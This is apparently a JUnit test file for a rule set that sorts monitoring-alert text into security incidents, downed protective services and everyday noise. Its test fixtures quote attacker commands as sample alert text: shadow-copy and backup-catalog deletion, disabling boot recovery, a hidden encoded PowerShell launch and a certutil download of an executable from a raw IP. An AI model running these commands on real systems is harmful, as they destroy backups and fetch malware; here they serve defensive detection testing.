package io.closeloop.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

import io.closeloop.rules.DeviceTrait.Kind;

/**
 * {@code classification/security-signals.drl}: signs of an attack or of tampering, found
 * in the words of alerts worded as RMMs, EDRs and PSAs word them, whatever type they
 * carry; and the everyday alerts that must not look like one.
 */
class SecuritySignalsRulesTests {

	private final RuleSet rules = RuleFiles.compile("classification/security-signals.drl");

	/** An alert of a routine type whose text reports an attack. */
	private record Signal(String type, String message) {

	}

	@Test
	void shouldFindAnAttackInTheWordsOfAlertsOfAnyType() {
		List<Signal> attacks = List.of(
				// Ransomware and mass encryption, under routine types.
				new Signal("disk.space.low",
						"C: free space dropped from 40% to 2% in 10 minutes; 18,220 files renamed with extension .lockbit"),
				new Signal("file.activity", "Mass file modification on \\\\FS01\\Shares: 4,210 files changed in 60 s"),
				new Signal("disk", "Found README_TO_DECRYPT.txt in 35 folders on D:"),
				new Signal("custom.monitor", "Canary file C:\\Users\\Public\\Documents\\~$budget.docx was modified"),
				new Signal("psa.ticket", "User says every file on the S: drive is now called something.akira"),
				new Signal("antivirus.status",
						"Sophos Intercept X: CryptoGuard stopped WannaCry attempting to encrypt files"),
				new Signal("service.stopped",
						"Volume Shadow Copy: 'vssadmin.exe Delete Shadows /All /Quiet' run by svc_backup"),
				new Signal("eventlog",
						"Event 524: the System Catalog has been deleted (wbadmin DELETE CATALOG -quiet)"),
				new Signal("eventlog", "bcdedit.exe /set {default} recoveryenabled No"),
				// Malware and detections.
				new Signal("antivirus",
						"Microsoft Defender Antivirus has detected malware or other potentially unwanted software. "
								+ "Name: Trojan:Win32/Wacatac.B!ml"),
				new Signal("av.status", "Threat Quarantined: PUA:Win32/Presenoker"),
				new Signal("cpu.high", "Process xmrig.exe using 98% CPU for 20 minutes"),
				new Signal("performance.cpu", "High CPU: mimikatz.exe (PID 4412) at 85%"),
				new Signal("edr", "SentinelOne: Cobalt Strike beacon on ACME-WS-07"),
				new Signal("service.stopped", "Service 'WinDefendUpd' stopped; file flagged as HackTool:Win64/Rubeus"),
				// Attack activity.
				new Signal("account.locked", "Possible brute force: 240 failed logons for 'administrator' in 5 min"),
				new Signal("eventlog",
						"powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA started by winword.exe"),
				new Signal("script.output",
						"certutil.exe -urlcache -split -f http://45.9.20.1/a.exe C:\\ProgramData\\a.exe"),
				new Signal("eventlog", "Event 1102: the audit log was cleared by ACME\\temp-admin"),
				new Signal("security", "User 'support$' was added to Domain Admins by ACME\\jdoe"),
				new Signal("m365", "Impossible travel: sign-in from Lagos 10 minutes after one from London"),
				new Signal("login", "Unauthorised login to the NAS admin console from 203.0.113.8"),
				// Programs in odd places, and lookalike names.
				new Signal("service.installed", "New service installed: C:\\Users\\Public\\svchost.exe"),
				new Signal("network", "Process svch0st.exe listening on port 4444"),
				new Signal("startup", "C:\\Windows\\Temp\\update.ps1 ran at logon"),
				new Signal("email", "Attachment Invoice_2026.pdf.exe blocked"),
				new Signal("process", "lsass.exe running from C:\\Users\\bob\\AppData\\Local\\lsass.exe"),
				new Signal("linux.process", "kworkerds launched from /tmp/.x/kworkerds as root"));
		for (Signal attack : attacks) {
			assertThat(kinds(attack)).as(attack.message()).contains(Kind.SECURITY_INCIDENT);
		}
	}

	@Test
	void shouldFindAProtectionThatIsDownWhicheverProductAndWordingTheAlertUses() {
		List<Signal> protectionsDown = List.of(new Signal("service.stopped", "Service 'SentinelAgent' stopped"),
				new Signal("service.down", "CrowdStrike Falcon Sensor (CSFalconService) not running"),
				new Signal("antivirus", "Windows Defender real-time protection was turned off"),
				new Signal("service.stopped", "Sophos Endpoint Defense service terminated unexpectedly"),
				new Signal("service.stopped", "The Windows Firewall (MpsSvc) service entered the stopped state."),
				new Signal("agent.status", "Huntress Agent offline for 3 days"),
				new Signal("software.change", "Bitdefender Endpoint Security Tools uninstalled by user jdoe"),
				new Signal("service.stopped", "Datto Backup agent (ShadowProtect) service stopped"),
				new Signal("backup", "Veeam Backup Service is not running on ACME-BKP-01"),
				new Signal("service.stopped", "Malwarebytes service (MBAMService) crashed"),
				new Signal("security.center", "Windows Security: virus & threat protection is off"));
		for (Signal down : protectionsDown) {
			assertThat(kinds(down)).as(down.message()).contains(Kind.PROTECTIVE_SERVICE);
		}
	}

	@Test
	void shouldSeeNothingInEverydayAlerts() {
		List<Signal> everyday = List.of(new Signal("disk.space.low", "C: free space 4%"),
				new Signal("disk.usage", "Disk D: 92% used (465 GB of 500 GB)"),
				new Signal("service.stopped", "The Print Spooler service entered the stopped state."),
				new Signal("service.stopped", "Windows Search (WSearch) stopped"),
				new Signal("service.stopped",
						"The Background Intelligent Transfer Service service entered the stopped state."),
				new Signal("cpu.high", "CPU utilisation 97% for 15 minutes (chrome.exe)"),
				new Signal("memory.high", "Memory usage above 90%: avg 93% over 10 min"),
				new Signal("patch.failed", "Windows Update: KB5034441 failed to install (0x80070643)"),
				new Signal("backup.failed", "Backup job 'Nightly-Full' failed: VSS writer 'SqlServerWriter' timed out"),
				new Signal("backup", "Veeam backup job 'Daily' completed with warnings"),
				new Signal("bitlocker", "BitLocker encryption of C: is 100% complete"),
				new Signal("certificate.expiring", "Certificate for mail.acme.com expires in 14 days"),
				new Signal("account.locked", "Account jdoe locked out"),
				new Signal("psa.ticket", "SLA breach warning on ticket #4411"),
				new Signal("time.drift", "Time drift 4.2 s from pool.ntp.org"),
				new Signal("agent.offline", "Agent offline since Sep 14 10:14"),
				new Signal("patch.scan", "Patch scan completed: 3 updates missing"),
				new Signal("onedrive.sync.stopped", "OneDrive sync stopped for user jdoe"),
				new Signal("temp.folder.large", "Temp folder C:\\Windows\\Temp is 12 GB"),
				new Signal("av.definitions.outdated", "Defender definitions are 3 days old"),
				new Signal("defender.scan.overdue", "Defender scan overdue (last full scan 9 days ago)"),
				new Signal("firewall", "Windows Firewall: On (Domain, Private and Public profiles)"),
				new Signal("raid.degraded", "RAID 5 degraded: disk 2 missing"),
				new Signal("ups.on.battery", "UPS on battery, 42 minutes remaining"),
				new Signal("scheduled.task.failed",
						"Scheduled task 'Cleanup' in C:\\ProgramData\\Acme failed with 0x1"),
				new Signal("dns.failure", "DNS resolution failed for acme.local"),
				new Signal("exchange.queue.high", "Exchange queue at 1,204 messages"),
				new Signal("shadow.copy.failed", "Shadow copy storage for C: is 95% full"),
				new Signal("software.change", "Google Chrome updated to 131.0.6778.86"),
				new Signal("eventlog", "The event log service was started."));
		for (Signal alert : everyday) {
			assertThat(kinds(alert)).as(alert.message())
				.doesNotContain(Kind.SECURITY_INCIDENT, Kind.PROTECTIVE_SERVICE);
		}
	}

	private List<Kind> kinds(Signal signal) {
		return this.rules
			.evaluate(List.of(RuleFiles.alert(signal.type(), "workstation", "Windows 11", signal.message())))
			.facts(DeviceTrait.class)
			.stream()
			.map(DeviceTrait::kind)
			.toList();
	}

}
